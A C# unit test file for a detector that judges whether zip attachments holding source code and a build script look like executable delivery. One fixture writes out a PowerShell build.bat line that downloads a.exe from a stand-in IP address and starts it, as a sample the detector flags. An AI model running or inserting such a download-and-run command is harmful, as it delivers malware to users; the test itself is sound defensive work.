using Platform.Engine.Detectors.Files;

namespace Platform.Engine.Tests.Detectors.Files;

public sealed class SourceArchivesTests
{
    private static readonly (string, byte[])[] Sources = [("tool/main.c", TestFiles.Text("int main(void) { return 0; }")), ("tool/readme.md", TestFiles.Text("# Tool")), ("tool/build.bat", TestFiles.Text("@echo off\r\ncl main.c\r\n"))];

    [Fact]
    public void The_script_that_builds_sources_is_no_proof() => Assert.Equal(["script-among-sources"], Signs(Sources));

    [Fact]
    public void A_script_with_hardly_any_source_is() => Assert.Equal(["archive-with-executable"], Signs(Sources[1..]));

    [Fact]
    public void A_script_that_does_something_is() =>
        Assert.Equal(["archive-with-executable"], Signs([.. Sources[..2], ("tool/build.bat", TestFiles.Text("powershell -c \"iwr http://198.51.100.7/a.exe -OutFile a.exe; start a.exe\""))]));

    [Fact]
    public void A_program_beside_it_is() => Assert.Contains("archive-with-executable", Signs([.. Sources, ("tool/run.exe", TestFiles.Program)]));

    private static IReadOnlyList<string> Signs((string Name, byte[] Content)[] members) => new TestMail { Files = [("tool.zip", TestFiles.Zip(members))] }.SignsOf(new ExecutableFile());
}
